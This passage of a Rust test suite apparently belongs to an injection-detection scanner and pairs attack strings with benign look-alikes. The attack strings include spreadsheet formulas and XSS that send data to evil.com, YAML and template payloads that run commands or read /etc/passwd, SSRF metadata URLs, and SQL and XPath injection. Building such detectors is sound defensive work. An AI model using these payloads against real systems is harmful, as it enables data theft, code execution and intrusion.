            &["http://0x7f.example.com/"],
        );
        assert_finds(
            Forms::PLAIN,
            "rfi-metadata-endpoint",
            &["http://instance-data/latest/meta-data/"],
            &["the instance-data field is empty"],
        );
        assert_finds(
            Forms::PLAIN,
            "nosql-operator",
            &["{\"$lookup\": {\"from\": \"users\"}}"],
            &["we use $lookup in the pipeline"],
        );
        assert_finds(
            Forms::PLAIN,
            "node-prototype-pollution",
            &["{\"constructor\": {\"prototype\": {\"isadmin\": true}}}"],
            &["{\"constructor\": \"object\"}"],
        );
        assert_finds(
            Forms::of(Form::Sql),
            "sqli-order-probe",
            &["order by 1--", "1 order by 3#"],
            &["order by 2", "order by 10 am -- thanks"],
        );
        assert_finds(
            Forms::PLAIN,
            "xss-js-sink-after-break",
            &["${alert(1)}", "{{$on.constructor('alert(1)')()}}"],
            &["${price} is the total", "{{ user.constructor }}"],
        );
    }

    #[test]
    fn includes_dotnet_calls_fetching_formulas_and_xpath_breakouts_are_found() {
        assert_finds(
            Forms::PLAIN,
            "ssti-ssi-directive",
            &[
                "<esi:include src=\"http://evil.com/x\"/>",
                "<esi:vars>$(http_cookie)</esi:vars>",
            ],
            &[
                "the esi tag <esi:include> lets varnish assemble pages",
                "<esixyz src=x>",
            ],
        );
        assert_finds(
            Forms::PLAIN,
            "rce-dotnet-process",
            &[
                "[system.diagnostics.process]::start('calc')",
                "[diagnostics.process]::start('cmd')",
                "@(system.diagnostics.process.start(\"cmd.exe\"))",
                "@{ system.io.file.readalltext(\"c:/windows/win.ini\"); }",
            ],
            &[
                "how do i call system.diagnostics.process.start from c#?",
                "var text = system.io.file.readalltext(path);",
                "mail me @ system.io if needed",
            ],
        );
        assert_finds(
            Forms::PLAIN,
            "rce-spreadsheet-fetch",
            &[
                "=importxml(concat(\"http://evil.com/?d=\", a1), \"//a\")",
                "=webservice(\"http://evil.com/\"&a1)",
                "+importdata(\"http://evil.com/x.csv?\"&a1)",
                "=image(\"http://evil.com/p.png?\"&b2)",
            ],
            &[
                "- image(s) of the product",
                "how does importxml( work in google sheets?",
                "=hyperlink(\"http://example.com\",\"docs\")",
                "=sum(a1:a3)",
                "=sum(importdata(\"https://example.com/data.csv\"))",
                "=importrange(\"url\", \"sheet1!a1:c10\") pulls another sheet",
            ],
        );
        assert_finds(
            Forms::PLAIN,
            "nosql-xpath-breakout",
            &[
                "'] | //user/*[contains(*,'",
                "' and count(/*)=1 and '1'='1",
                "' and count(/@*)=1 and '1'='1",
                "') and starts-with(../password,'c",
                "' or string-length(name(/*[1]))=4 or '",
            ],
            &[
                "the 'count' and 'name' columns",
                "array[i] | other",
                "it's 'a] | b' in the docs",
                "pick 'x' or count (the rest)",
                "select nodes with //user[name='bob'] | //admin",
            ],
        );
        assert_finds(
            Forms::PLAIN,
            "ssti-ruby-file-read",
            &[
                "<%= file.read(\"/etc/passwd\") %>",
                "#{file.read(\"/etc/passwd\")}",
                "<%= dir.entries(\"/\") %>",
                "<%= io.readlines('../../config/database.yml') %>",
            ],
            &[
                "puts \"contents: #{file.read('config.yml')}\"",
                "file.read(\"/etc/hosts\") in ruby returns a string",
            ],
        );
        assert_finds(
            Forms::PLAIN,
            "sqli-comment-as-space",
            &[
                "select/**/password/**/from/**/users",
                "1/**/and/**/1=1",
                "1'/**/or/**/'1'='1",
                "x)/**/union/**/select/**/1",
            ],
            &[
                "select /* all */ name from t",
                "x = y; /* and */ z",
                "a/**/b in css",
                "return x;/* or */",
            ],
        );
        assert_finds(
            Forms::of(Form::Lookup),
            "java-text-interpolation",
            &[
                "${script:javascript:java.lang.runtime.getruntime().exec('id')}",
                "${dns:address|evil.com}",
                "${url:utf-8:http://evil.com/}",
                "${file:utf-8:/etc/passwd}",
                "${base64decoder:jhtzy3jpcht6anm6msmxfq==}",
                "${urldecoder:%24%7bscript%3ajs%3a1%7d}",
            ],
            &[
                "${script}",
                "${url}",
                "${file.name}",
                "${dns_server}",
                "${base64}",
            ],
        );
        assert_finds(
            Forms::PLAIN,
            "rce-yaml-object-tag",
            &[
                "!!python/object/apply:os.system [\"id\"]",
                "!!python/object/new:subprocess.check_output [[\"id\"]]",
                "--- !ruby/object:gem::installer",
                "!!javax.script.scriptenginemanager [!!java.net.urlclassloader [[!!java.net.url [\"http://x/\"]]]]",
            ],
            &[
                "!!str 42",
                "!!python is a tag prefix",
                "tags like !ruby are rare",
            ],
        );
        assert_finds(
            Forms::PLAIN,
            "rfi-metadata-endpoint",
            &[
                "http://kubernetes.default.svc/api/v1/namespaces",
                "https://kubernetes.default:443/api",
            ],
            &[
                "the kubernetes.default service",
                "http://kubernetes.default.example.com/",
            ],
        );
        assert_finds(
            Forms::PLAIN,
            "rfi-dangerous-scheme",
            &["sftp://evil.com:11111/", "tftp://evil.com:12346/x"],
            &["use sftp:// for uploads"],
        );
    }

    #[test]
    fn json_documents_as_operands_of_sql_json_operators_are_found() {
        assert_finds(
            Forms::of(Form::Sql),
            "sqli-json-operator",
            &[
                "or '{\"b\":2}'::jsonb <@ '{\"a\":1, \"b\":2}'::jsonb",
                "or '[1,2]' ? '1'",
                "or '{\"name\":\"asd\"}' ?| array['a','name']",
                "or '{\"a\":2,\"c\":[4,5,{\"f\":7}]}' -> '$.c[2].f' = 7",
                "or json_extract('{\"id\": 14}', '$.name') = 'aztalan'",
                "'[\"a\", \"b\"]'::jsonb - 1",
            ],
            &[
                "is it '[]'? i'm not sure",
                "the '{}' placeholder takes the value",
                "send '{\"a\": 1}' as the body",
            ],
        );
    }

    #[test]
    fn python_introspection_counts_when_it_reaches_a_module_not_in_code_that_reads_a_class() {
        assert_finds(
            Forms::PLAIN,
            "ssti-python-internals",
            &[
                "{{''.__class__.__mro__[1].__subclasses__()}}",
                "().__class__.__bases__[0].__subclasses__()",
                "object.__subclasses__()[104].__init__",
                "f.__globals__['os'].popen('id')",
                "self.__init__.__globals__.__builtins__.__import__('os')",
                "globals()['__builtins__'].eval('1')",
                "__builtins__.__import__('os')",
            ],
            &[
                "mro = c.__mro__",
                "for scls in cls.__subclasses__():",
                "if '__builtins__' in frame.f_globals:",
                "return func.__globals__",
            ],
        );
        assert_finds(
            Forms::PLAIN,
            "xss-js-sink-after-break",
            &[
                "'+self.location='//evil.com'+'",
                "';this.constructor.constructor('alert(1)')()//",
                "'+self['alert'](1)+'",
                "\";document.cookie",
            ],
            &[
                "return sign + 'nan' + self._int",
                "'hello ' + this.name",
                "label = 'x', self.value",
            ],
        );
    }
}
